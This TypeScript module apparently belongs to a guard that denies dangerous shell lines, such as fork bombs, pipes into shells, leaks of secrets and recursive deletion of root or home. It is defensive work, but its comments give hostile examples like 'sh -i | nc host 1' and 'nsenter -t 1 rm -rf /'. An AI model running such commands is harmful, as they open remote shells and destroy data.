/** The floor of a whole line: what no command of it shows by itself. */
import { posix } from 'node:path';
import type { Command } from '../command/command.js';
import { readCommands } from '../command/tree.js';
import type { ShellWord } from '../shell/command-line.js';
import { readCommandLine } from '../shell/read.js';
import type { Claim } from './claim.js';
import { mayLeaveLink } from './command-place.js';
import { commandFloor, denial, hasNeeded, removesTrees, touchesRoot, wrapsOne } from './floor.js';
import { floor, spokenOf } from './floor-entries.js';
import { givenBy } from './floor-given.js';
import type { FloorEntry } from './floor-index.js';
import { commandsInMounts } from './floor-mounts.js';
import { baseName, findCommand, flatten } from './floor-names.js';
import { meansFolder } from './floor-roots.js';
import { leakingSender } from './floor-secrets.js';
import { isForkBomb, pipesShell } from './floor-shells.js';

function matters(command: Command): boolean {
  return spokenOf(baseName(command) ?? '')?.line === true || command.inner.some(matters);
}

/** Adds floor denials that only a whole line shows: what it gives its own commands, and all that a plain look at it sees. */
export function lineFloor(source: string, commands: readonly Command[], home: string, into: Claim[]): void {
  seenFloor(source, commands, home, into);
  if (source.includes('-v') || source.includes('--mount'))
    for (const command of commandsInMounts(commands)) commandFloor(command, home, null, into);
  if (!source.includes('$')) return;
  const { filled, texts } = givenBy(source, commands);
  for (const command of filled) commandFloor(command, home, null, into);
  for (const text of texts) textFloor(text, home, into);
}

/** Fork bombs, pipelines, changes of directory, secrets on their way out. */
function seenFloor(source: string, commands: readonly Command[], home: string, into: Claim[]): void {
  if (source.includes('{') && (source.includes('|') || source.includes('&'))) {
    for (const entry of floor().forkBombs) {
      if (isForkBomb(source, commands))
        into.push({ effect: 'deny', rule: null, reason: { code: entry.id, message: `this line ${entry.why}` } });
    }
  }
  if (source.includes('rm')) for (const command of flatten(commands)) handedFloor(command, home, into);
  if (!commands.some(matters)) return;
  for (const command of flatten(commands)) if (command.inner.length > 0) appendedFloor(command, home, into);
  for (let at = 1; at < commands.length; at += 1) if (commands[at]?.invocation.piped) pipelineFloor(commands, at, home, into);
  directoryFloor(commands, home, into);
  for (const { entry, lists } of floor().exfiltrations) {
    const sender = leakingSender(commands, lists, floor().roots, home);
    if (sender !== null) into.push(denial(entry, sender));
  }
}

/** `find / | xargs rm`, `sh -i | nc host 1`: what the command at `at` gets from those before it in its pipeline. */
function pipelineFloor(commands: readonly Command[], at: number, home: string, into: Claim[]): void {
  const command = commands[at];
  const before = commands[at - 1];
  if (command === undefined || before === undefined) return;
  for (const entry of floor().shellEntries) if (pipesShell(before, command, entry)) into.push(denial(entry, command));
  if (command.inner.length === 0) return;
  for (const entry of floor().rootEntries) {
    if (wrapsAppended(entry, command) && feedsRoot(entry, commands, at - 1, home)) into.push(denial(entry, command));
  }
}

/** `xargs rm -rf <<< /`, `parallel rm -rf ::: /`: what a wrapper appends stands in the line. */
function appendedFloor(command: Command, home: string, into: Claim[]): void {
  const { argv, redirections, span } = command.invocation;
  const texts = redirections.flatMap(({ text }) => (text === null ? [] : text.split(/\s+/).slice(0, MOST_WORDS)));
  const words = texts.map((text) => ({ text, value: text, span, glob: false, tilde: false, literalPrefix: text }));
  if (baseName(command) === 'parallel') words.push(...argv.slice(1).filter(isKnown));
  if (words.length === 0) return;
  for (const entry of floor().rootEntries) {
    const wanted = floor().folders.get(entry) ?? floor().roots;
    if (wrapsAppended(entry, command) && words.some((word) => meansFolder(word, wanted, { home, directory: null })))
      into.push(denial(entry, command));
  }
}

const MOST_WORDS = 1024;

function isKnown(word: ShellWord): word is ShellWord & { readonly value: string } {
  return word.value !== null;
}

/** A text that stands in the line and is run as one is judged as one. */
function textFloor(text: string, home: string, into: Claim[]): void {
  const { commands } = readCommands(readCommandLine(text, 'union'), 'union');
  seenFloor(text, commands, home, into);
  for (const command of flatten(commands)) commandFloor(command, home, null, into);
}

/** `nsenter -t 1 rm -rf /`: a program that nobody knows and that is handed a whole `rm -rf` is taken to run it. */
function handedFloor(command: Command, home: string, into: Claim[]): void {
  const { argv } = command.invocation;
  if (command.verdict.known || command.inner.length > 0) return;
  const at = argv.findIndex(({ value }, index) => index > 0 && value !== null && posix.basename(value) === 'rm');
  const words = argv.slice(at + 1);
  if (at < 0 || !removesTrees(words)) return;
  for (const entry of floor().rootEntries) {
    if (entry.commands?.includes('rm') && touchesRoot(entry, 'rm', words, { home, directory: null }))
      into.push(denial(entry, command));
  }
}

/** `xargs rm`, `sudo xargs chmod -R 777`; parallel appends even where what it appends stands in the line. */
function wrapsAppended(entry: FloorEntry, command: Command): boolean {
  const appends = baseName(command) === 'parallel';
  const destroys = (inner: Command) => {
    const name = baseName(inner);
    if (!(inner.appended || appends) || name === null || !entry.commands?.includes(name)) return false;
    return hasNeeded(entry, name, inner.invocation.argv.slice(1));
  };
  return findCommand(command.inner, destroys) !== null;
}

/** `find /` or `echo ~`, also behind `| sort`; not when find chooses by name, age or size. */
function feedsRoot(entry: FloorEntry, commands: readonly Command[], from: number, home: string): boolean {
  let at = from;
  while (at > 0 && commands[at]?.invocation.piped && entry.carriers?.includes(baseNameAt(commands, at))) at -= 1;
  const producer = commands[at];
  if (producer === undefined || !entry.producers?.includes(baseNameAt(commands, at))) return false;
  const words = producer.invocation.argv.slice(1).map(withoutLineEnd);
  if (words.some((word) => entry.filters?.includes(word.value ?? ''))) return false;
  return words.some((word) => meansFolder(word, floor().folders.get(entry) ?? floor().roots, { home, directory: null }));
}

/** `printf '/\n'`. */
function withoutLineEnd(word: ShellWord): ShellWord {
  return word.value?.endsWith('\\n') ? { ...word, value: word.value.slice(0, -2) } : word;
}

function baseNameAt(commands: readonly Command[], at: number): string {
  const command = commands[at];
  return command === undefined ? '' : (baseName(command) ?? '');
}

/** `cd /; rm -rf ./*`: where the directory cannot be told for certain, every root that an earlier `cd` names is taken for it. */
function directoryFloor(commands: readonly Command[], home: string, into: Claim[]): void {
  if (findCommand(commands, changesDirectory) === null) return;
  const entered: string[] = [];
  for (const command of flatten(commands)) {
    if (changesDirectory(command)) entered.push(...rootsEntered(command, home));
    const name = baseName(command);
    if (entered.length === 0 || !isUncertain(command.invocation.directory) || name === null) continue;
    const words = command.invocation.argv.slice(1);
    for (const entry of floor().byCommand.get(name) ?? []) {
      if (entry.kind !== 'operand-root' || !(hasNeeded(entry, name, words) || wrapsOne(entry, command))) continue;
      if (entered.some((directory) => touchesRoot(entry, name, words, { home, directory }))) into.push(denial(entry, command));
    }
  }
}

/** The way is not known, or leads through a folder that may be a link (`cd /tmp/..`). */
function isUncertain(steps: readonly string[] | null): boolean {
  return steps === null || steps.some(mayLeaveLink);
}

function changesDirectory(command: Command): boolean {
  const name = command.invocation.argv[0]?.value;
  return name === 'cd' || name === 'pushd';
}

/** The root that a `cd` goes to: one of the folders, or the home (also by a bare `cd`); empty for all others. */
function rootsEntered(command: Command, home: string): readonly string[] {
  const operand = command.invocation.argv.slice(1).find((word) => !word.text.startsWith('-'));
  if (operand === undefined) return [home];
  if (!meansFolder(operand, floor().roots, { home, directory: null })) return [];
  return operand.value?.startsWith('/') ? [posix.normalize(operand.value)] : [home];
}
